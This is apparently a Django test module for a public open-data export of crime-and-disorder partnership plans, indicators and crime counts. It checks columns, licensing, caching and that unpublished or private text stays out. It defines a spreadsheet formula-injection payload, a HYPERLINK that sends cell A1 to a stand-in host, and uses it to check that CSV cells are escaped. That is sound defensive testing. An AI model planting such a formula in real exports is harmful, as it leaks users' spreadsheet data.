"""Open data: every dataset as CSV and JSON, written from its one declaration, open to anyone without
signing in, holding what partnerships publish and nothing else, under the Open Government Licence,
and described column by column on the data dictionary page."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date
from decimal import Decimal

import pytest
from django.core.cache import cache
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from actionplans.models import Action, ProgressReturn
from assessments.models import CrimeCount, Indicator, IndicatorValue
from csp_portal.organisations.models import Agency, Authority
from csp_portal.quarters import Quarter
from priorities import publication
from priorities.models import Plan
from reports import publication as quarters
from reports.open_data import files
from reports.open_data.datasets import DATASETS, LICENCE
from tests.actionplans.factories import ActionFactory, PlanFactory, PriorityFactory, ReturnFactory
from tests.factories import AgencyFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Click")'
OGL = "https://www.nationalarchives.gov.uk/doc/open-government-licence/version/3/"
MARKERS = {
    "unpublished plan": "MARKER-UNPUBLISHED-PLAN-71c",
    "draft action": "MARKER-DRAFT-ACTION-0d2",
    "person's name": "MARKER-PERSON-NAME-4ab",
    "e-mail": "marker-person-e19@example.org",
    "lead role": "MARKER-LEAD-ROLE-5f3",
    "activity": "MARKER-ACTIVITY-93e",
    "draft return": "MARKER-DRAFT-RETURN-2c8",
    "risk": "MARKER-RISK-b07",
    "escalation": "MARKER-ESCALATION-6d1",
    "value note": "MARKER-VALUE-NOTE-a4e",
    "another partnership's indicator": "MARKER-CSR-INDICATOR-8b2",
    "another partnership's crime": "MARKER-CSR-CRIME-1f9",
    "crime-data indicator's set-aside figure": "MARKER-SET-ASIDE-c30",
    "accepted return's narrative": "MARKER-ACCEPTED-NARRATIVE-e5d",
    "accepted return's risk": "MARKER-ACCEPTED-RISK-7a0",
    "board request": "MARKER-SUPPORT-NEEDED-41b",
    "officer's comment": "MARKER-OFFICER-COMMENT-d6e",
}
Q1, Q2 = Quarter(2025, 1), Quarter(2025, 2)


@pytest.fixture(autouse=True)
def empty_cache():
    cache.clear()
    yield
    cache.clear()


def lancaster_council() -> Authority:
    return Authority.objects.get(ons_code="E07000121")


@pytest.fixture
def published(cast) -> Plan:
    """Lancaster's plan, published, with figures and crime counts; Chorley and South Ribble's plan,
    figures and crime counts, never published; and private text planted everywhere."""
    cast.lead.full_name, cast.lead.email = MARKERS["person's name"], MARKERS["e-mail"]
    cast.lead.save()
    plan = PlanFactory(partnership=cast.lancaster, title="Lancaster District Plan 2025-2028")
    abuse = PriorityFactory(plan=plan, title="Domestic abuse", order=1, lead_role=MARKERS["lead role"])
    roads = PriorityFactory(plan=plan, title=FORMULA, order=2)
    council = Agency.objects.create(name="Lancaster City Council")
    training = ActionFactory(
        priority=abuse,
        title="Train frontline staff in DASH",
        lead_agency=council,
        lead_user=cast.lead,
        due_date=date(2026, 3, 31),
        status=Action.Status.IN_PROGRESS,
        activity=MARKERS["activity"],
    )
    ActionFactory(priority=roads, title="-Speed checks", timescale="2025/26")
    ActionFactory(priority=abuse, title=MARKERS["draft action"], status=Action.Status.DRAFT)
    ReturnFactory(
        action=training, narrative=MARKERS["draft return"], risks=MARKERS["risk"], support_needed=MARKERS["escalation"]
    )
    hidden = PlanFactory(partnership=cast.chorley_south_ribble, title=MARKERS["unpublished plan"])
    ActionFactory(priority=PriorityFactory(plan=hidden), title=MARKERS["unpublished plan"])

    marac = Indicator.objects.create(
        partnership=cast.lancaster, name="Repeat referrals to MARAC", unit="referrals", source="MARAC coordinator",
        authority=lancaster_council(),
    )  # fmt: skip
    IndicatorValue.objects.create(indicator=marac, period_start=date(2024, 4, 1), value=Decimal("95.000"))
    IndicatorValue.objects.create(
        indicator=marac, period_start=date(2025, 4, 1), value=Decimal("87.500"), note=MARKERS["value note"]
    )
    counting = Indicator.objects.create(
        partnership=cast.lancaster, name="Burglary", source="police.uk", crime_type="Burglary"
    )
    IndicatorValue.objects.create(
        indicator=counting,
        period_start=date(2024, 4, 1),
        value=1,
        note=MARKERS["crime-data indicator's set-aside figure"],
    )
    other = Indicator.objects.create(
        partnership=cast.chorley_south_ribble, name=MARKERS["another partnership's indicator"], source="x"
    )
    IndicatorValue.objects.create(indicator=other, period_start=date(2024, 4, 1), value=7)

    force = "Lancashire Constabulary"
    CrimeCount.objects.create(
        force=force, month=date(2024, 1, 1), authority=lancaster_council(), crime_type="Burglary", count=42
    )
    CrimeCount.objects.create(
        force=force, month=date(2024, 1, 1), authority=lancaster_council(), crime_type="Drugs", count=9
    )
    chorley = Authority.objects.get(ons_code="E07000118")
    CrimeCount.objects.create(
        force=force,
        month=date(2024, 1, 1),
        authority=chorley,
        crime_type=MARKERS["another partnership's crime"],
        count=3,
    )
    CrimeCount.objects.create(
        force=force, month=date(2024, 1, 1), area=CrimeCount.Area.UNKNOWN, crime_type="Drugs", count=5
    )

    ReturnFactory(
        action=training,
        number=2,
        status=ProgressReturn.Status.ACCEPTED,
        rag=ProgressReturn.Rag.AMBER,
        percent_complete=40,
        narrative=MARKERS["accepted return's narrative"],
        risks=MARKERS["accepted return's risk"],
        support_needed=MARKERS["board request"],
        officer_comment=MARKERS["officer's comment"],
    )

    publication.publish_plan(plan, actor=cast.officer)
    # Q2 is public; Q1 was published, then withdrawn.
    quarters.publish_quarter(cast.lancaster, Q1, commentary="First quarter.", actor=cast.officer)
    quarters.withdraw_quarter(cast.lancaster, Q1, actor=cast.officer)
    quarters.publish_quarter(cast.lancaster, Q2, commentary="Second quarter.", actor=cast.officer)
    return plan


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def download(client: Client, name: str, file_format: str, slug: str | None = None) -> bytes:
    view = f"open_data:partnership-{name}-{file_format}" if slug else f"open_data:{name}-{file_format}"
    response = client.get(reverse(view, args=[slug] if slug else []))
    assert response.status_code == 200
    assert response["Content-Type"] == files.FORMATS[file_format]
    expected = f"{slug}-{name}.{file_format}" if slug else f"{name}.{file_format}"
    assert f'filename="{expected}"' in response["Content-Disposition"]
    return body(response)


def csv_rows(content: bytes) -> list[list[str]]:
    assert not content.startswith(b"\xef\xbb\xbf")  # UTF-8 without a byte order mark
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


FILES = [(name, file_format) for name in DATASETS for file_format in ("csv", "json")]


# -- The files match the declarations ------------------------------------------------------------------


@pytest.mark.parametrize("name", list(DATASETS))
def test_every_files_columns_are_the_declared_ones_and_csv_and_json_hold_the_same_rows(published, name):
    dataset, anyone = DATASETS[name], Client()
    header, *rows = csv_rows(download(anyone, name, "csv"))
    document = json.loads(download(anyone, name, "json"))
    assert header == dataset.column_names
    assert [column["name"] for column in document["columns"]] == dataset.column_names
    assert all(list(row) == dataset.column_names for row in document["rows"])
    as_csv = [[files.csv_cell(row[c.name], c.type) for c in dataset.columns] for row in document["rows"]]
    assert rows and rows == as_csv


@pytest.mark.parametrize("name", list(DATASETS))
def test_every_json_file_carries_the_licence_and_says_what_it_is(published, name):
    document = json.loads(download(Client(), name, "json"))
    assert document["licence"] == LICENCE
    assert document["licence"]["url"] == OGL
    assert document["licence"]["attribution"] == (
        "Contains public sector information licensed under the Open Government Licence v3.0."
    )
    assert (document["dataset"], document["documentation"]) == (name, f"/open-data/#{name}")
    assert ("source" in document) == (name == "crime-counts")


def test_the_plans_rows_are_the_published_actions(published):
    document = json.loads(download(Client(), "plans", "json"))
    published_at = publication.publication_of(published).published_at.isoformat()
    assert document["rows"] == [
        {
            "partnership_slug": "lancaster",
            "partnership_name": "Lancaster District CSP",
            "plan_title": "Lancaster District Plan 2025-2028",
            "plan_period_start": published.period_start.isoformat(),
            "plan_period_end": published.period_end.isoformat(),
            "priority_title": "Domestic abuse",
            "watching_brief": False,
            "action_title": "Train frontline staff in DASH",
            "lead_agency": "Lancaster City Council",
            "due_date": "2026-03-31",
            "timescale": "To March 2026",
            "status": "In progress",
            "published_at": published_at,
        },
        {
            "partnership_slug": "lancaster",
            "partnership_name": "Lancaster District CSP",
            "plan_title": "Lancaster District Plan 2025-2028",
            "plan_period_start": published.period_start.isoformat(),
            "plan_period_end": published.period_end.isoformat(),
            "priority_title": FORMULA,
            "watching_brief": False,
            "action_title": "-Speed checks",
            "lead_agency": "",
            "due_date": None,
            "timescale": "2025/26",
            "status": "Not started",
            "published_at": published_at,
        },
    ]


def test_the_quarterly_status_rows_are_the_public_quarters_actions(published):
    document = json.loads(download(Client(), "quarterly-status", "json"))
    published_at = quarters.publication_of(published.partnership, Q2).published_at.isoformat()
    common = {
        "partnership_slug": "lancaster",
        "partnership_name": "Lancaster District CSP",
        "plan_title": "Lancaster District Plan 2025-2028",
        "quarter": "2025-26-Q2",
        "quarter_label": "2025/26 Q2",
        "quarter_year": 2025,
        "quarter_number": 2,
        "published_at": published_at,
    }
    assert document["rows"] == [
        common
        | {
            "priority_title": "Domestic abuse",
            "action_title": "Train frontline staff in DASH",
            "lead_agency": "Lancaster City Council",
            "rag": "amber",
            "rag_label": "Amber",
            "percent_complete": 40,
        },
        common
        | {
            "priority_title": FORMULA,
            "action_title": "-Speed checks",
            "lead_agency": "",
            "rag": "none",
            "rag_label": "No accepted return",
            "percent_complete": None,
        },
    ]  # and nothing of the withdrawn first quarter


def test_figures_and_counts_are_typed_and_only_the_publishing_partnerships(published):
    anyone = Client()
    indicators = json.loads(download(anyone, "indicators", "json"))["rows"]
    assert [(r["indicator"], r["authority_code"], r["period_start"], r["value"]) for r in indicators] == [
        ("Repeat referrals to MARAC", "E07000121", "2024-04-01", 95),
        ("Repeat referrals to MARAC", "E07000121", "2025-04-01", 87.5),
    ]
    assert indicators[0]["frequency"] == "year"
    crime = json.loads(download(anyone, "crime-counts", "json"))["rows"]
    assert crime == [
        {"authority_code": "E07000121", "authority_name": "Lancaster", "month": "2024-01", "crime_type": c, "count": n,
         "force": "Lancashire Constabulary"}
        for c, n in (("Burglary", 42), ("Drugs", 9))
    ]  # fmt: skip
    assert csv_rows(download(anyone, "indicators", "csv"))[1][-1] == "95"


def test_a_formula_looking_title_is_text_in_the_csv_and_as_written_in_the_json(published):
    anyone = Client()
    header, *rows = csv_rows(download(anyone, "plans", "csv"))
    cells = [dict(zip(header, row, strict=True)) for row in rows]
    assert cells[1]["priority_title"] == "'" + FORMULA
    assert cells[1]["action_title"] == "'-Speed checks"
    assert json.loads(download(anyone, "plans", "json"))["rows"][1]["priority_title"] == FORMULA


# -- Only what is published ------------------------------------------------------------------------------


def test_an_anonymous_visitor_finds_nothing_private_in_any_file_or_the_dictionary(published):
    anyone = Client()
    page = anyone.get(reverse("open_data:index"))
    assert page.status_code == 200
    found = {"/open-data/": page.content.decode()}
    for name, file_format in FILES:
        found[f"{name}.{file_format}"] = download(anyone, name, file_format).decode()
    found["lancaster/plans.csv"] = download(anyone, "plans", "csv", "lancaster").decode()
    for where, text in found.items():
        for what, marker in MARKERS.items():
            assert marker.lower() not in text.lower(), f"{what} in {where}"
        assert "Ana Analyst" not in text and "@lancaster.example" not in text


def test_a_partnerships_own_plan_file_and_one_not_published_is_not_found(published):
    anyone = Client()
    header, *rows = csv_rows(download(anyone, "plans", "csv", "lancaster"))
    assert {row[0] for row in rows} == {"lancaster"} and len(rows) == 2
    assert json.loads(download(anyone, "plans", "json", "lancaster"))["dataset"] == "plans"
    for slug in ("chorley-south-ribble", "no-such-partnership"):
        assert anyone.get(reverse("open_data:partnership-plans-csv", args=[slug])).status_code == 404


def test_withdrawing_the_plan_empties_every_file_at_once(published, cast):
    anyone = Client()
    for name, file_format in FILES:
        download(anyone, name, file_format)  # now cached
    publication.withdraw_plan(published, actor=cast.officer)
    for name in DATASETS:
        assert csv_rows(download(anyone, name, "csv")) == [DATASETS[name].column_names]
        assert json.loads(download(anyone, name, "json"))["rows"] == []
    assert anyone.get(reverse("open_data:partnership-plans-json", args=["lancaster"])).status_code == 404


def test_new_figures_reach_the_cached_file(published):
    anyone = Client()
    assert len(json.loads(download(anyone, "indicators", "json"))["rows"]) == 2
    marac = Indicator.objects.get(name="Repeat referrals to MARAC")
    IndicatorValue.objects.create(indicator=marac, period_start=date(2023, 4, 1), value=101)
    assert len(json.loads(download(anyone, "indicators", "json"))["rows"]) == 3
    CrimeCount.objects.filter(crime_type="Drugs", area="authority").update(count=10)
    assert [r["count"] for r in json.loads(download(anyone, "crime-counts", "json"))["rows"]] == [42, 10]


def test_the_files_say_when_they_last_changed(published):
    response = Client().get(reverse("open_data:plans-csv"))
    stamp = publication.publication_of(published).published_at
    assert response["Last-Modified"] == stamp.astimezone(UTC).strftime("%a, %d %b %Y %H:%M:%S GMT")
    assert response["Link"] == f'<{OGL}>; rel="license"'
    assert response["Access-Control-Allow-Origin"] == "*"


# -- The data dictionary ---------------------------------------------------------------------------------


def test_the_dictionary_describes_every_column_and_links_every_file(published):
    page = Client().get(reverse("open_data:index")).content.decode()
    for name, dataset in DATASETS.items():
        assert f'id="{name}"' in page
        for column in dataset.columns:
            assert f"<code>{column.name}</code>" in page
        for file_format in ("csv", "json"):
            assert f'href="{reverse(f"open_data:{name}-{file_format}")}"' in page
    assert reverse("open_data:partnership-plans-csv", args=["lancaster"]) in page
    assert "chorley-south-ribble/plans" not in page
    assert f'href="{OGL}"' in page and LICENCE["attribution"] in page and "data.police.uk" in page
    assert "Your account" not in page


def test_the_public_pages_link_the_open_data(published):
    anyone = Client()
    for path in (reverse("public:index"), reverse("public:plan", args=["lancaster"])):
        assert f'href="{reverse("open_data:index")}"' in anyone.get(path).content.decode()
    plan_page = anyone.get(reverse("public:plan", args=["lancaster"])).content.decode()
    assert reverse("open_data:partnership-plans-csv", args=["lancaster"]) in plan_page


# -- Queries ---------------------------------------------------------------------------------------------


def grow(plan: Plan, size: int) -> None:
    """``size`` more priorities with an action each, figures and crime counts, in Lancaster."""
    council = lancaster_council()
    for n in range(size):
        priority = PriorityFactory(plan=plan, lead_agency=AgencyFactory())
        ActionFactory(priority=priority, lead_agency=AgencyFactory(), due_date=date(2026, 3, 31))
        indicator = Indicator.objects.create(partnership=plan.partnership, name=f"Grown {n} {priority.pk}", source="x")
        IndicatorValue.objects.create(indicator=indicator, period_start=date(2024, 4, 1), value=n)
        CrimeCount.objects.create(
            force="Lancashire Constabulary", month=date(2020, 1, 1), authority=council, crime_type=f"T{priority.pk}",
            count=n,
        )  # fmt: skip


def queries_of(client: Client, path: str) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(path)
        assert response.status_code == 200
        body(response)  # a streamed file reads as it is sent
    return len(queries)


def test_every_file_and_the_dictionary_run_a_fixed_number_of_queries(published, cast):
    anyone = Client()
    paths = [reverse(f"open_data:{name}-{file_format}") for name, file_format in FILES]
    paths += [reverse("open_data:partnership-plans-csv", args=["lancaster"]), reverse("open_data:index")]
    grow(published, 1)
    publication.publish_plan(published, actor=cast.officer)
    quarters.publish_quarter(cast.lancaster, Q2, commentary="", actor=cast.officer)
    small = {path: [queries_of(anyone, path) for _ in range(2)] for path in paths}
    grow(published, 10)
    publication.publish_plan(published, actor=cast.officer)
    quarters.publish_quarter(cast.lancaster, Q2, commentary="", actor=cast.officer)
    large = {path: [queries_of(anyone, path) for _ in range(2)] for path in paths}
    assert large == small
    for path in paths[:-1]:
        first, cached = small[path]
        assert cached == first - 1, path  # the cache saves the reading query
    assert small[reverse("open_data:plans-csv")] == [2, 1]
    assert len(json.loads(download(anyone, "plans", "json"))["rows"]) == 2 + 11
    assert len(json.loads(download(anyone, "quarterly-status", "json"))["rows"]) == 2 + 11
